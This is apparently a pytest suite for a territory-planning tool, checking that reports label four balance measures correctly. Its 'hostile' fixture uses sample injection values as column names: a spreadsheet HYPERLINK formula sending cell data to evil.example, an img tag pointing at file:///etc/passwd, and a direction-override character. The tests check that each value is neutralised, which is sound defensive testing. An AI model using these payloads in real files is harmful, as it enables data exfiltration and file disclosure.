"""Four balance measures (potential, ARR, pipeline, renewals next 2q): every reader shows each
of them with its own label and units, and every number means what its label says (issue 14.2).

One plan of the example's two regions, shared by the module."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest_books import GENERATED_ON, pdf_text, render_checked

from territory.plan_result import amount_text
from territory.reporting import build_manager_rollup, build_plan_summary, load_plan_dir
from territory.reporting.render import pct
from territory_cli.main import cli

ROOT = Path(__file__).resolve().parents[1]
REGIONS = ("Northeast", "West")
MEASURES = ("potential", "arr", "pipeline", "renewals_next_2q")
LABELS = ("Potential", "ARR", "Pipeline", "Renewals next 2q")
CONFIG = (
    "[balance.measures.potential]\nband = 0.1\n[balance.measures.arr]\nband = 0.1\n"
    "[balance.measures.pipeline]\nband = 0.02\n[balance.measures.renewals_next_2q]\nband = 0.15\n"
)


def write_inputs(folder: Path, columns: dict[str, str] | None = None) -> tuple[Path, Path]:
    """accounts.csv and roster.csv of the example's two regions, with ARR (from potential),
    open pipeline on one account in ten and renewals on one in three; ``columns`` renames the
    measure columns (name -> header)."""
    names = columns or {}
    with open(ROOT / "examples" / "accounts.csv", encoding="utf-8", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["region"] in REGIONS]
    ids = {r["account_id"] for r in rows}
    accounts = folder / "accounts.csv"
    heads = [names.get(m, m) for m in MEASURES[1:]]
    with open(accounts, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow([*rows[0], *heads])
        for i, r in enumerate(rows):
            pot = int(r["potential"])
            w.writerow(
                [
                    *{**r, "parent_id": r["parent_id"] if r["parent_id"] in ids else ""}.values(),
                    pot // (5 + i % 7) // 100 * 100,
                    (i * 7919) % 50 * 1000 if i % 10 == 0 else 0,
                    (i * 31) % 13 * 250 if i % 3 == 0 else 0,
                ]
            )
    with open(ROOT / "examples" / "roster.csv", encoding="utf-8", newline="") as fh:
        reps = [r for r in csv.DictReader(fh) if r["region"] in REGIONS]
    # R03 (Northeast) reports to the West's manager: no team is a whole pool, so a team's
    # totals differ from its fair shares
    reps = [{**r, "manager": reps[-1]["manager"]} if r["rep_id"] == "R03" else r for r in reps]
    roster = folder / "roster.csv"
    with open(roster, "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, list(reps[0]))
        w.writeheader()
        w.writerows(reps)
    return accounts, roster


def run_plan(tmp: Path, config: str, columns: dict[str, str] | None = None) -> tuple[Path, str]:
    """Plan the inputs of ``write_inputs`` in ``tmp`` with the settings ``config``: the plan
    folder and the terminal's output."""
    accounts, roster = write_inputs(tmp, columns)
    (tmp / "plan.toml").write_text(config, encoding="utf-8")
    out = tmp / "plan"
    args = ["plan", str(accounts), str(roster), "--out", str(out), "--config", str(tmp / "plan.toml")]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    return out, result.output


@pytest.fixture(scope="module")
def plan4(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    return run_plan(tmp_path_factory.mktemp("measures4"), CONFIG)


def again(plan4: tuple[Path, str], command: str, out: Path, *extra: str) -> str:
    """Run ``command`` (plan, capacity) on the fixture's inputs and settings: its output."""
    folder = plan4[0].parent
    args = [command, str(folder / "accounts.csv"), str(folder / "roster.csv"), "--out", str(out)]
    result = CliRunner().invoke(cli, [*args, "--config", str(folder / "plan.toml"), *extra])
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture(scope="module")
def summary(plan4: tuple[Path, str]) -> dict[str, Any]:
    return json.loads((plan4[0] / "summary.json").read_text(encoding="utf-8"))


def flat(pdf: bytes) -> str:
    return " ".join(pdf_text(pdf).split())


def test_the_plan_summary_gives_every_measures_spread(plan4: tuple[Path, str], summary: dict) -> None:
    """It said 'Spread of potential ... (coefficient of variation)' alone; the CV of each
    measure is in summary.json, and each is shown under its own label."""
    ctx = build_plan_summary(load_plan_dir(plan4[0]), generated_on=GENERATED_ON)
    cvs = [summary["overall"]["measures"][m]["cv"] for m in MEASURES]
    assert len(set(cvs)) == 4  # four different numbers, so a mix-up shows
    text = flat(render_checked(ctx))
    spread = ", ".join(f"{label} {pct(cv)}" for label, cv in zip(LABELS, cvs))
    line = (
        "Spread against fair share across reps (coefficient of variation of each rep's total ÷ "
        f"fair share): {spread}."
    )
    assert " ".join(line.split()) in text


def test_the_rollup_gives_the_teams_total_of_every_measure(plan4: tuple[Path, str], summary: dict) -> None:
    """It said 'Team potential: ... (the team's fair share ...)' alone."""
    plan = load_plan_dir(plan4[0])
    manager = summary["reps"][0]["manager"]
    team = [r for r in summary["reps"] if r["manager"] == manager]
    text = flat(render_checked(build_manager_rollup(plan, manager, generated_on=GENERATED_ON)))
    parts = []
    for name, label in zip(MEASURES, LABELS):
        value = sum(r["measures"][name]["value"] for r in team)
        fair = sum(r["measures"][name]["fair"] for r in team)
        assert round(value) != round(fair)
        parts.append(f"{label} {amount_text(value)} (fair share {amount_text(fair)})")
    line = "Team totals against the team's fair share: " + "; ".join(parts) + "."
    assert " ".join(line.split()) in text
    assert "Team potential:" not in text


def test_compare_gives_every_measures_spread(plan4: tuple[Path, str], summary: dict, tmp_path: Path) -> None:
    """compare (and whatif, which prints the same table) gave 'Potential CV' alone."""
    out = tmp_path / "compare.csv"
    result = CliRunner().invoke(cli, ["compare", str(plan4[0]), str(plan4[0]), "-o", str(out)])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    for name, label in zip(MEASURES, LABELS):
        row = next(line for line in lines if line.startswith(f"{label} CV "))
        cv = summary["overall"]["measures"][name]["cv"]
        assert row.split()[-2:] == [f"{cv:.1%}"] * 2, row
    with open(out, encoding="utf-8", newline="") as fh:
        rows = {r["metric"]: r for r in csv.DictReader(fh) if r["section"] == "plan"}
    for name in MEASURES:
        key = "potential_cv" if name == "potential" else f"{name}_cv"
        assert float(rows[key]["plan"]) == summary["overall"]["measures"][name]["cv"]
    with open(out, encoding="utf-8", newline="") as fh:
        r01 = {r["metric"]: r["plan"] for r in csv.DictReader(fh) if r["rep_id"] == "R01"}
    for name in MEASURES:  # potential's fair share was the one missing
        m = summary["reps"][0]["measures"][name]
        assert float(r01[f"{name}_fair_share"]) == pytest.approx(m["fair"]), name


def test_capacity_gives_every_measures_gap(plan4: tuple[Path, str], summary: dict, tmp_path: Path) -> None:
    """capacity's plans gave each group's worst gap for potential alone ('Potential gap')."""
    out = tmp_path / "cap"
    output = again(plan4, "capacity", out, "--set", "capacity.changes=[-1]")
    head = next(line for line in output.splitlines() if line.startswith("Region ") and "Change" in line)
    assert "Potential gap   ARR gap  Pipeline gap  Renewals next 2q gap  Outside bands" in head
    with open(out / "capacity.csv", encoding="utf-8", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["change"] == "0"]
    assert len(rows) == 2
    for row in rows:  # today's headcount is the plan of the fixture: its reps' worst gaps
        reps = [r for r in summary["reps"] if r["region"] == row["group"]]
        for name in MEASURES[1:]:
            worst = max(abs(r["measures"][name]["deviation"]) for r in reps)
            assert float(row[f"max_{name}_deviation"]) == pytest.approx(worst, abs=1e-6)
    saved = json.loads((out / "capacity.json").read_text(encoding="utf-8"))
    assert "max_renewals_next_2q_deviation" in saved["plans"][0]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"ARR")'
MARKUP = '<img src="file:///etc/passwd">pipeline'
RTL = "تجديدات الربع القادم\u202e" + "x" * 90  # right-to-left, an override, very long
REORDERING = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# the labels shown: at most 40 characters, the start and the end of a longer name kept
FORMULA_LABEL = '=HYPERLINK("http://evil.ex…x="&A1,"ARR")'
RTL_LABEL = "تجديدات الربع القادمxxxxxx…xxxxxxxxxxxxx"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A plan whose measure columns are named like a formula, like markup and in Arabic with
    a direction override and 90 more characters (the lumpy pipeline: its band cannot hold)."""
    config = "[balance.measures.potential]\nband = 0.1\n"
    for name, band in ((FORMULA, 0.2), (RTL, 0.02), (MARKUP, 0.2)):
        config += f"[balance.measures.{json.dumps(name)}]\nband = {band}\n"
    columns = dict(zip(MEASURES[1:], (FORMULA, RTL, MARKUP)))
    return run_plan(tmp_path_factory.mktemp("hostile"), config, columns)


def test_a_hostile_measure_name_is_inert_in_the_terminal(hostile: tuple[Path, str]) -> None:
    _, output = hostile
    assert not REORDERING.search(output)  # the override would reverse the rest of its line
    lines = output.splitlines()
    header = next(line for line in lines if line.startswith("Rep "))
    assert f"{FORMULA_LABEL} vs fair  {RTL_LABEL} vs fair  {MARKUP} vs fair" in header
    assert "x" * 40 not in header  # the long name is shortened, its start and end kept
    # each measure's number ends under the end of its head
    rows = [line for line in lines if re.match(r"R\d\d ", line)][:7]
    ends = [m.end() for m in re.finditer("vs fair", header)]
    assert len(ends) == 4 and all(row[end - 1] in "%!" for row in rows for end in ends)
    warning = next(line for line in lines if "outside the band" in line and "الربع" in line)
    # the warning quotes the name whole, and its setting as plan.toml writes it
    assert f"R01: {RTL.replace(chr(0x202E), '')} " in warning
    assert 'widen balance.measures."تجديدات الربع القادم\\u202e' in warning


def test_a_hostile_measure_name_is_text_in_every_book(hostile: tuple[Path, str]) -> None:
    from territory.reporting import build_rep_book, render_html
    from territory.reporting.render import AssetFetcher

    plan = load_plan_dir(hostile[0])
    rep = plan.result.reps[0]
    for ctx in (
        build_plan_summary(plan, generated_on=GENERATED_ON),
        build_manager_rollup(plan, rep.manager, generated_on=GENERATED_ON, maps=False),
        build_rep_book(plan, rep.rep_id, generated_on=GENERATED_ON, maps=False),
    ):
        html = render_html(ctx)
        assert "<img src" not in html and "&lt;img src=&#34;file:///etc/passwd&#34;&gt;pipeline" in html
        assert "\u202e" not in html
        # shortened wherever it labels a number (the warnings quote it whole, as the terminal)
        assert "x" * 40 not in re.sub(r"<h3>Warnings</h3>.*?</ul>", "", html, flags=re.S)
        fetcher = AssetFetcher()
        text = flat(render_checked(ctx, fetcher))
        assert fetcher.refused == []
        assert MARKUP in text and FORMULA_LABEL in text and "root:x:0" not in text
        assert "الربع" in text and RTL_LABEL[-12:] in text


def test_a_hostile_measure_keeps_its_column_on_the_review_page(hostile: tuple[Path, str]) -> None:
    """The plan writes a formula-like header neutralised ("'=HYPERLINK..."); the review page
    looked for the measure's own name and silently left out its column."""
    from territory.reporting.review import review_data

    data = review_data(load_plan_dir(hostile[0]))
    labels = list(data["accounts"]["amount_labels"].values())
    assert labels == ["Potential", FORMULA_LABEL, RTL_LABEL, MARKUP]


def test_a_hostile_measure_name_is_neutralised_in_compare_csv(
    hostile: tuple[Path, str], tmp_path: Path
) -> None:
    out = tmp_path / "compare.csv"
    result = CliRunner().invoke(cli, ["compare", str(hostile[0]), str(hostile[0]), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert not REORDERING.search(result.output)
    assert f"Max {FORMULA_LABEL} deviation" in result.output and f"{MARKUP} CV" in result.output
    with open(out, encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + FORMULA in cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_the_rep_book_gives_every_measure_alike(plan4: tuple[Path, str], summary: dict) -> None:
    """Potential had a line of its own, without its band and never red; the other measures
    had no pool average. Every measure now says the same things."""
    from territory.reporting import build_rep_book

    plan = load_plan_dir(plan4[0])
    rep = summary["reps"][0]
    pool = [r for r in summary["reps"] if r["pool"] == rep["pool"]]
    text = flat(render_checked(build_rep_book(plan, rep["rep_id"], generated_on=GENERATED_ON, maps=False)))
    bands = {"potential": "±10 %", "arr": "±10 %", "pipeline": "±2 %", "renewals_next_2q": "±15 %"}
    for name, label in zip(MEASURES, LABELS):
        m = rep["measures"][name]
        avg = sum(r["measures"][name]["value"] for r in pool) / len(pool)
        outside = not m["band"][0] - 1e-6 <= m["value"] <= m["band"][1] + 1e-6
        line = (
            f"{label}: {amount_text(m['value'])} (your fair share {amount_text(m['fair'])}, band {bands[name]}; "
            f"{rep['pool']} pool average {amount_text(avg)} per rep): {pct(m['deviation'], signed=True)}"
            + (", outside your band." if outside else ".")
        )
        assert " ".join(line.split()) in text
    assert rep["measures"]["pipeline"]["deviation"] > 0.02  # one line is red


def test_a_plan_from_before_measures_gives_potentials_band(tmp_path: Path) -> None:
    """plan_small was written before balance.measures: its potential band is the setting
    balance.potential_band, and a rep outside it is said to be."""
    from conftest_books import copy_fixture

    from territory.reporting import build_rep_book, render_html

    folder = copy_fixture(tmp_path)
    summary = json.loads((folder / "summary.json").read_text(encoding="utf-8"))
    summary["config"]["balance"]["potential_band"] = 0.03  # R02 is +3.6 % of its fair share
    (folder / "summary.json").write_text(json.dumps(summary), encoding="utf-8")
    plan = load_plan_dir(folder)
    html = " ".join(render_html(build_rep_book(plan, "R02", maps=False)).split())
    assert '<li class="outside">Potential: ' in html and "band ±3 %" in html
    assert "+3.6 %, outside your band.</li>" in html  # (split() took the no-break space)
    html = " ".join(render_html(build_rep_book(plan, "R01", maps=False)).split())
    assert "<li>Potential: " in html and "band ±3 %; West pool average" in html


def test_the_plan_summary_gives_every_measures_average(plan4: tuple[Path, str], summary: dict) -> None:
    """'Average per rep over the whole plan' gave potential alone."""
    text = flat(render_checked(build_plan_summary(load_plan_dir(plan4[0]), generated_on=GENERATED_ON)))
    averages = summary["team_average"]["measures"]
    said = ", ".join(f"{label} {amount_text(averages[name])}" for name, label in zip(MEASURES, LABELS))
    assert f"Tier 3 {summary['team_average']['tier_counts']['3']:.1f}), {said}." in text


def test_the_balance_bars_point_to_the_other_measures(plan4: tuple[Path, str]) -> None:
    """The bars (tiers and potential) said 'no rep has one' red while four reps were outside
    the pipeline band: the text now says where every measure is."""
    text = flat(render_checked(build_plan_summary(load_plan_dir(plan4[0]), generated_on=GENERATED_ON)))
    assert (
        "Every balance measure (Potential, ARR, Pipeline, Renewals next 2q) against its own band is in "
        "the table below the bars."
    ) in text


def test_the_rep_books_accounts_carry_every_measure(plan4: tuple[Path, str]) -> None:
    """Each account of the book gave its potential only: its ARR, pipeline and renewals (the
    rep's totals are their sums) were in assignments.csv and nowhere in the book."""
    from territory.reporting import build_rep_book

    plan = load_plan_dir(plan4[0])
    rep = plan.result.reps[0]
    mine = plan.assignments[plan.assignments["owner_id"] == rep.rep_id]
    text = flat(render_checked(build_rep_book(plan, rep.rep_id, generated_on=GENERATED_ON, maps=False)))
    assert (
        "Each entry: name, account id, potential, ARR, Pipeline, Renewals next 2q (where not zero), and "
        "whether you keep it"
    ) in text
    shown = 0
    for r in mine.to_dict("records"):
        entry = f"potential {int(r['potential']):,}"
        for name, label in zip(MEASURES[1:], LABELS[1:]):
            if float(r[name]):
                entry += f" · {label} {amount_text(float(r[name]))}"
        # (a subsidiary listed under a parent of another tier says its own tier first)
        assert re.search(rf"{r['account_id']}( · Tier \d)? · {re.escape(entry)} · ", text), entry
        shown += entry.count("·") > 0
    assert shown > 10


def test_summary_json_gives_todays_books_for_every_measure(summary: dict) -> None:
    """Today's books had a CV and the reps outside the band for potential alone
    (overall.before); every measure now records them beside its largest gap."""
    measures = summary["overall"]["measures"]
    before = summary["overall"]["before"]
    assert measures["potential"]["before_cv"] == before["potential_cv"]
    assert measures["potential"]["before_reps_outside_band"] == before["reps_outside_potential_band"]
    for name in MEASURES:
        ratios = [r["measures"][name]["before"] / r["measures"][name]["fair"] for r in summary["reps"]]
        mean = sum(ratios) / len(ratios)
        cv = (sum((x - mean) ** 2 for x in ratios) / len(ratios)) ** 0.5 / mean
        assert measures[name]["before_cv"] == pytest.approx(cv, abs=1e-6)
        outside = sum(
            not r["measures"][name]["band"][0]
            <= r["measures"][name]["before"]
            <= r["measures"][name]["band"][1]
            for r in summary["reps"]
        )
        assert measures[name]["before_reps_outside_band"] == outside
    assert len({m["before_cv"] for m in measures.values()}) == 4


def test_the_move_sweep_gives_every_measures_gap(
    plan4: tuple[Path, str], summary: dict, tmp_path: Path
) -> None:
    """--sweep-moves gave the worst gap of potential alone at each cap."""
    out = tmp_path / "plan"
    lines = again(plan4, "plan", out, "--sweep-moves", "none,20%").splitlines()
    head = next(line for line in lines if line.lstrip().startswith("Move cap"))
    assert (
        "Worst potential gap  Worst ARR gap  Worst Pipeline gap  Worst Renewals next 2q gap  Outside" in head
    )
    with open(out / "sweep.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    uncapped = next(r for r in rows if r["cap"] == "none")  # the plan of the fixture
    for name in MEASURES:
        key = f"max_{name}_deviation"
        assert float(uncapped[key]) == pytest.approx(summary["overall"]["measures"][name]["max_deviation"])
    line = next(line for line in lines if line.split()[:1] == ["none"])
    gaps = [f"{summary['overall']['measures'][n]['max_deviation']:.1%}" for n in MEASURES]
    assert line.split()[4:8] == gaps


def test_the_workbooks_accounts_carry_every_measure(plan4: tuple[Path, str]) -> None:
    """The workbooks' account sheets had a Potential column alone."""
    import io

    import openpyxl

    from territory.reporting.workbooks import manager_workbook, rep_workbook

    plan = load_plan_dir(plan4[0])
    rep = plan.result.reps[0]
    by_id = {r["account_id"]: r for r in plan.assignments.to_dict("records")}
    for data, first in (
        (rep_workbook(plan, rep.rep_id, generated_on=GENERATED_ON), 0),
        (manager_workbook(plan, rep.manager, generated_on=GENERATED_ON), 2),
    ):
        sheet = openpyxl.load_workbook(io.BytesIO(data))["Accounts"]
        head, *rows = list(sheet.iter_rows(values_only=True))
        at = head.index("Potential")
        assert head[at : at + 5] == ("Potential", *LABELS[1:], "Status")
        for row in rows:
            account = by_id[row[first + 1]]
            assert row[at : at + 4] == tuple(float(account[n]) for n in MEASURES), row
        assert any(row[at + 2] for row in rows)  # some pipeline


def test_team_balance_names_each_measure_by_its_label(plan4: tuple[Path, str], tmp_path: Path) -> None:
    """With balance.team_band the terminal's team lines and the roll-up's team balance gave a
    measure by its column name ('renewals_next_2q'), unlike every other line."""
    out = tmp_path / "plan"
    output = again(plan4, "plan", out, "--set", "balance.team_band=0.1")
    line = next(line for line in output.splitlines() if line.startswith("  Rachel Goldberg (Northeast"))
    assert re.search(
        r"Potential [+-][\d.]+% vs fair, ARR [+-][\d.]+% vs fair, Pipeline .*, Renewals next 2q ", line
    )
    plan = load_plan_dir(out)
    ctx = build_manager_rollup(plan, "Rachel Goldberg", generated_on=GENERATED_ON, maps=False)
    assert [b.what for b in ctx.team_bands][3:] == list(LABELS)
    text = flat(render_checked(ctx))
    assert re.search(r"Renewals next 2q [\d,]+ \(fair [\d,]+, band [\d,]+-[\d,]+\)", text)


def test_moves_carry_every_measure(plan4: tuple[Path, str]) -> None:
    """The hand-over lists (a rep's accounts leaving, a team's moves) gave each account's
    potential only."""
    from territory.reporting import build_rep_book

    plan = load_plan_dir(plan4[0])
    moved = plan.assignments[plan.assignments["owner_id"] != plan.assignments["previous_owner_id"]]
    leaving = moved[moved["previous_owner_id"] == "R01"]
    assert len(leaving) and leaving["renewals_next_2q"].astype(float).any()
    rep = flat(render_checked(build_rep_book(plan, "R01", generated_on=GENERATED_ON, maps=False)))
    team = flat(
        render_checked(build_manager_rollup(plan, "Rachel Goldberg", generated_on=GENERATED_ON, maps=False))
    )
    for r in leaving.to_dict("records"):
        entry = f"{r['account_id']} · Tier {r['tier']} · potential {int(r['potential']):,}"
        for name, label in zip(MEASURES[1:], LABELS[1:]):
            if float(r[name]):
                entry += f" · {label} {amount_text(float(r[name]))}"
        assert entry + " · to " in rep and entry + " · from " in team, entry


def test_a_refused_request_quotes_a_hostile_measure_inertly() -> None:
    """A request's refusal (requests.csv, explain) named the measure and its setting raw: the
    override reversed the rest of the line, and the setting was not one plan.toml can hold."""
    from territory.plan_result import measure_setting
    from territory.requests import _breach_text

    breach = {
        "rep_id": "R13",
        "measure": RTL,
        "value": 97.5,
        "fair": 100.0,
        "outside": 0.005,
        "direction": "under",
    }
    text = _breach_text(breach)
    assert not REORDERING.search(text)
    assert (
        text.startswith("R13's تجديدات الربع القادمxxx") and "0.5% of its fair share under its band" in text
    )
    assert measure_setting(RTL) == 'balance.measures."تجديدات الربع القادم\\u202e' + "x" * 90 + '"'
    assert measure_setting("renewals_next_2q") == "balance.measures.renewals_next_2q"


def test_a_long_measure_label_stays_in_its_cell(hostile: tuple[Path, str]) -> None:
    """'=HYPERLINK("http://...' has no place to break: it ran over the numbers beside it in
    the plan summary's largest-gap table and over its neighbour in the measures table's head."""
    from test_reporting import _cell_overflows

    from territory.reporting import render_html

    plan = load_plan_dir(hostile[0])
    for ctx in (
        build_plan_summary(plan, generated_on=GENERATED_ON),
        build_manager_rollup(plan, plan.result.reps[0].manager, generated_on=GENERATED_ON, maps=False),
    ):
        assert _cell_overflows(render_html(ctx), "list") == []


def test_the_workbooks_moves_carry_every_measure(plan4: tuple[Path, str]) -> None:
    """The workbooks' Leaving and Moves sheets had a Potential column alone."""
    import io

    import openpyxl

    from territory.reporting.workbooks import manager_workbook, rep_workbook

    plan = load_plan_dir(plan4[0])
    by_id = {r["account_id"]: r for r in plan.assignments.to_dict("records")}
    for data, name, first in (
        (rep_workbook(plan, "R01", generated_on=GENERATED_ON), "Leaving", 0),
        (manager_workbook(plan, "Rachel Goldberg", generated_on=GENERATED_ON), "Moves", 1),
    ):
        head, *rows = list(openpyxl.load_workbook(io.BytesIO(data))[name].iter_rows(values_only=True))
        at = head.index("Potential")
        assert head[at : at + 5] == ("Potential", *LABELS[1:], "From") and rows
        for row in rows:
            account = by_id[row[first]]
            assert row[at : at + 4] == tuple(float(account[n]) for n in MEASURES), row


def test_a_move_made_for_a_measure_says_which(plan4: tuple[Path, str]) -> None:
    """A move away from a rep above their ARR (or pipeline, renewals) band read 'moved to
    balance the books'; only potential had a reason of its own. Each such move now names its
    measure, and only when the previous owner was above that band and the account carries
    some of it."""
    out = plan4[0]
    with open(out / "assignments.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    before = {r["rep_id"]: r for r in summary["reps"]}
    said = [
        r for r in rows if re.match(r"moved to balance (ARR|Pipeline|Renewals next 2q), from ", r["reason"])
    ]
    assert said, sorted({r["reason"].split(",")[0] for r in rows})
    for r in said:
        label = r["reason"][len("moved to balance ") :].split(", from ")[0]
        m = MEASURES[LABELS.index(label)]
        assert float(r[m] or 0) > 0
        assert r["reason"].endswith(", from " + r["previous_owner_id"])
        held = before[r["previous_owner_id"]]["measures"][m]
        assert held["before"] > held["band"][1]
